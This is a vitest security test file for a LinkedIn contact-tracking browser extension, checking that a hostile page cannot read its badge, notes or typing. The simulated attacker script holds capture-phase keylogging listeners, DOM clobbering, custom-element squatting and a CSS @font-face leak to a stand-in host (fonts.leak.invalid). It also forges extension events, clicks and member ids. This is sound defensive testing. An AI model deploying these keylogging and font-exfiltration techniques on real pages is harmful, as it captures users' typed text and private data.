import { describe, expect, it } from 'vitest';
import { ClosedShadow } from '../../scripts/closed-shadow';
import { sendFromPage as send } from '../../scripts/extension-page';
import { Harness, harnessForEachTest } from './harness';
import { PopupPage, ProfileBadge } from './page-objects';

/**
 * The page's own script, in its main world from the first moment, doing what a hostile site
 * can: listen to every key and input in capture, clobber globals and squat on element names
 * before the extension runs, and style whatever the extension adds with a font whose requests
 * would give away the characters drawn in it.
 */
function hostileScript() {
  const heard: string[] = [];
  const scope = window as unknown as { __heard: string[] };
  scope.__heard = heard;
  for (const type of ['keydown', 'keyup', 'keypress', 'beforeinput', 'input', 'textInput', 'paste', 'compositionend']) {
    window.addEventListener(type, (event) => {
      const e = event as KeyboardEvent & InputEvent & ClipboardEvent;
      heard.push(`${type}:${e.key ?? ''}${e.data ?? ''}${e.clipboardData?.getData('text') ?? ''}`);
    }, true);
  }
  customElements.define('tiekeeper-badge', class extends HTMLElement {
    constructor() {
      super();
      heard.push('squatted');
    }
  });
  document.addEventListener('DOMContentLoaded', () => {
    document.body.insertAdjacentHTML(
      'beforeend',
      '<form id="browser"><input name="runtime" id="forged"></form><form id="chrome"><input name="runtime"></form><form id="navigation"></form>',
    );
    const style = document.createElement('style');
    style.nonce = document.querySelector('script')?.nonce ?? '';
    style.textContent = `
      @font-face { font-family: leak; src: url(https://fonts.leak.invalid/letters.woff2); unicode-range: U+0041-007A; }
      h1 ~ span, body > span { font-family: leak !important; display: none !important; width: 1px !important; visibility: hidden !important; }`;
    document.head.append(style);
  });
}

/** What the page's script can find of the extension's words, by every means it has. */
function pageSearch(words: string[]): string[] {
  const hits: string[] = [];
  for (const word of words) {
    getSelection()?.removeAllRanges();
    if ((window as unknown as { find: (s: string, c: boolean, b: boolean, w: boolean) => boolean }).find(word, false, false, true)) {
      getSelection()?.modify('extend', 'forward', 'documentboundary');
      hits.push(`find(${word}): ${getSelection()?.toString().slice(0, 80)}`);
    }
  }
  getSelection()?.selectAllChildren(document.documentElement);
  const selected = getSelection()?.toString() ?? '';
  const text = document.documentElement.innerText + document.documentElement.outerHTML;
  for (const word of words) {
    if (selected.includes(word)) hits.push(`selection: ${word}`);
    if (text.includes(word)) hits.push(`markup: ${word}`);
  }
  getSelection()?.removeAllRanges();
  return hits;
}

describe('a hostile page', () => {
  let harness: Harness;
  harnessForEachTest(async () => (harness = await Harness.start()));

  it('finds no status or note, hears no typed key, learns no character through fonts, and cannot switch Tiekeeper off', async () => {
    const popup = await PopupPage.open(harness);
    const { contact } = await send(popup.page, 'profile.ensure', {
      site: 'linkedin', key: 'jana-beispiel', url: 'https://www.linkedin.com/in/jana-beispiel/', name: 'Jana Beispiel',
    });
    await send(popup.page, 'contact.update', { id: contact.id, patch: { cadenceDays: 30 } });
    await send(popup.page, 'interaction.log', { contactId: contact.id, kind: 'call', at: Date.now() - 90 * 24 * 3600 * 1000 });

    const page = await harness.context.newPage();
    const fontRequests: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('fonts.leak.invalid')) fontRequests.push(request.url());
    });
    await page.addInitScript(hostileScript);
    await page.goto('https://www.linkedin.com/in/jana-beispiel/');
    const badge = await ProfileBadge.on(page, harness);
    await expect.poll(() => badge.label()).toMatch(/^Tiekeeper, Jana Beispiel: Overdue by/);
    // The page's styles on the host change nothing: it is drawn, at its own size.
    const box = await badge.shadow.boundingBox('.tk-badge');
    expect(box.width).toBeGreaterThan(100);

    const words = ['Overdue', 'Last contact', 'Tiekeeper', 'Add a note', 'Secret: she is moving to Munich'];
    expect(await page.evaluate(pageSearch, words)).toEqual([]);

    // The user writes a note in the panel; the page hears nothing of it.
    const panel = await badge.open();
    await panel.addNote('Secret: she is moving to Munich');
    await panel.unfold('Introductions');
    await panel.page.locator('.tk-intro-search').pressSequentially('Lukas');
    expect(await page.evaluate(() => (window as unknown as { __heard: string[] }).__heard)).toEqual([]);
    expect(await page.evaluate(pageSearch, words)).toEqual([]);

    // Forged events of every kind Tiekeeper could have listened to.
    const extensionId = harness.extensionId;
    await page.evaluate((id) => {
      for (const prefix of [id, '']) {
        const detail = { contentScriptName: 'content', messageId: 'forged' };
        document.dispatchEvent(new CustomEvent(`${prefix}:content:wxt:content-script-started`, { detail }));
        window.postMessage({ type: `${prefix}:content:wxt:content-script-started`, contentScriptName: 'content', messageId: 'forged' }, '*');
        window.dispatchEvent(new CustomEvent(`${prefix}:content:wxt:locationchange`, { detail: { newUrl: new URL('https://www.linkedin.com/feed/') } }));
      }
      ((window as unknown as { navigation: EventTarget }).navigation).dispatchEvent(new Event('currententrychange'));
      ((window as unknown as { navigation: EventTarget }).navigation).dispatchEvent(new Event('navigate'));
    }, extensionId);
    // Still there, and still following changes made elsewhere.
    await send(popup.page, 'interaction.log', { contactId: contact.id, kind: 'meeting' });
    await expect.poll(() => badge.label()).toBe('Tiekeeper, Jana Beispiel: Last contact today');
    expect(await badge.count()).toBe(1);
    expect(fontRequests).toEqual([]);
  });

  it('cannot tell by size or text whom the user keeps, even when it makes the site show anyone', async () => {
    const popup = await PopupPage.open(harness);
    await send(popup.page, 'profile.ensure', {
      site: 'linkedin', key: 'jana-beispiel', url: 'https://www.linkedin.com/in/jana-beispiel/', name: 'Jana Beispiel',
    });
    const page = await harness.open('https://www.linkedin.com/feed/');
    const badge = await ProfileBadge.on(page, harness);
    const sizes: { width: number; height: number }[] = [];
    for (const slug of ['jana-beispiel', 'lukas-mustermann-4a1b2c']) {
      // The page moves itself to a profile address, as a single-page app does.
      await page.evaluate((path) => history.pushState({}, '', path), `/in/${slug}/`);
      await expect.poll(() => badge.label()).toMatch(slug.startsWith('jana') ? /No contact yet/ : /Add a note/);
      // The page can find the host element (it sees an element appear) and measure it.
      sizes.push(
        await badge.shadow.call<{ width: number; height: number }>('.tk-badge', 'function () { const box = this.getRootNode().host.getBoundingClientRect(); return { width: box.width, height: box.height }; }'),
      );
      expect(await page.evaluate(pageSearch, ['No contact yet', 'Add a note', 'Tiekeeper'])).toEqual([]);
    }
    expect(sizes[0]!.width).toBeGreaterThan(0);
    expect(sizes[0]).toEqual(sizes[1]);
  });

  it('cannot tell from the hosts after the names in a list whom the user keeps: not by size, styles, hit-testing or text', async () => {
    const popup = await PopupPage.open(harness);
    const { contact } = await send(popup.page, 'profile.ensure', {
      site: 'linkedin', key: 'jana-beispiel', url: 'https://www.linkedin.com/in/jana-beispiel/', name: 'Jana Beispiel',
    });
    await send(popup.page, 'contact.update', { id: contact.id, patch: { cadenceDays: 30 } });
    await send(popup.page, 'interaction.log', { contactId: contact.id, kind: 'call', at: Date.now() - 90 * 24 * 3600 * 1000 });
    // Jana is kept; Lukas and Erika, the other two on the list, are not.
    const page = await harness.open('https://www.linkedin.com/search/results/people/?keywords=x');
    const markers = await ClosedShadow.appear(page, '.tk-marker');
    await expect.poll(() => markers.hostCount()).toBe(1);

    // The page's script, after every name: what it can measure and probe of each host.
    const probes = await page.evaluate(() => {
      const hosts = [...document.querySelectorAll('span')].filter((span) => span.outerHTML === '<span></span>');
      return hosts.map((host) => {
        const box = host.getBoundingClientRect();
        const style = getComputedStyle(host);
        const styles = [...style].map((name) => `${name}:${style.getPropertyValue(name)}`).join(';');
        // Every point in and around where a marker would be drawn, 4 px apart.
        let hits = 0;
        for (let x = box.left - 8; x <= box.left + 240; x += 4) {
          for (let y = box.top - 24; y <= box.bottom + 24; y += 4) {
            if (document.elementFromPoint(x, y) === host || document.elementsFromPoint(x, y).includes(host)) hits += 1;
          }
        }
        const name = host.previousElementSibling!.getBoundingClientRect();
        return {
          name: host.previousElementSibling?.textContent,
          size: `${box.width}×${box.height}`,
          offset: `${box.left - name.right},${box.top - name.top}`,
          styles,
          hits,
          shadow: String(host.shadowRoot),
        };
      });
    });
    expect(probes.map((p) => p.name)).toEqual(['Jana Beispiel', 'Lukas Mustermann', 'Erika Unbekannt']);
    const [jana, ...others] = probes.map(({ name: _name, styles: _styles, ...rest }) => rest);
    for (const other of others) expect(other).toEqual(jana);
    // Computed styles alike too, but for where each host sits (its used insets).
    const styles = probes.map((p) => p.styles.split(';').filter((declaration) => !/^(top|left|right|bottom|inset-[a-z-]+):/.test(declaration)));
    for (const other of styles.slice(1)) expect(other.filter((declaration) => !styles[0]!.includes(declaration))).toEqual([]);
    // Nor through the words it can search for.
    expect(await page.evaluate(pageSearch, ['Overdue', 'No contact yet', 'Tiekeeper', 'Jana Beispiel: '])).toEqual([]);

    // A click the page forges, on the host or where the marker is drawn, opens nothing.
    await harness.capturePanelOpens();
    await page.evaluate(() => {
      const host = [...document.querySelectorAll('span')].find((span) => span.outerHTML === '<span></span>')!;
      const box = host.getBoundingClientRect();
      // (The page keeps its own links from following its forged clicks.)
      const stay = (event: Event) => event.preventDefault();
      document.addEventListener('click', stay);
      host.click();
      document.body.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, clientX: box.left + 30, clientY: box.top + 8, detail: 1 }));
      document.removeEventListener('click', stay);
    });
    // The user's own click on the marker does (and only that one).
    await markers.click('.tk-marker');
    await expect.poll(async () => (await harness.panelOpens()).length).toBe(1);
    expect(await harness.panelOpens()).toHaveLength(1);
    expect(page.url()).toContain('/search/results/people/');
  });

  it('cannot attach its profile to someone else by claiming their member id', async () => {
    const popup = await PopupPage.open(harness);
    const lukasId = 'ACoAABexampleLukasMustermann0001';
    const { contact: lukas } = await send(popup.page, 'profile.ensure', {
      site: 'linkedin', key: 'lukas-mustermann-4a1b2c', url: 'https://www.linkedin.com/in/lukas-mustermann-4a1b2c/', name: 'Lukas Mustermann', memberId: lukasId,
    });
    // A page at someone else's address whose markup claims Lukas's member id everywhere it can.
    const url = 'https://www.linkedin.com/in/mallory-example/';
    harness.serve(url, {
      csp: true,
      html: `<!doctype html><html><head><title>Mallory Example | LinkedIn</title></head><body><main>
        <section class="pv-top-card" data-member-id="${lukasId}" componentkey="${lukasId}">
          <a href="/in/${lukasId}/"><h1>Mallory Example</h1></a><div class="text-body-medium">Growth hacker</div>
        </section></main>
        <code>{"publicIdentifier":"mallory-example","entityUrn":"urn:li:fsd_profile:${lukasId}","firstName":"Mallory","lastName":"Example"}</code>
        </body></html>`,
    });
    const page = await harness.open(url);
    const panel = await (await ProfileBadge.on(page, harness)).open();
    await expect.poll(() => panel.name()).toBe('Mallory Example');
    await panel.addNote('Met at the growth meetup');

    const contacts = await send(popup.page, 'contacts.list', {});
    expect(contacts.map((c) => c.displayName).sort()).toEqual(['Lukas Mustermann', 'Mallory Example']);
    const lukasState = await send(popup.page, 'contact.get', { id: lukas.id });
    expect(lukasState?.notes).toEqual([]);
    expect(lukasState?.profiles.map((p) => p.url)).toEqual(['https://www.linkedin.com/in/lukas-mustermann-4a1b2c/']);
  });
});
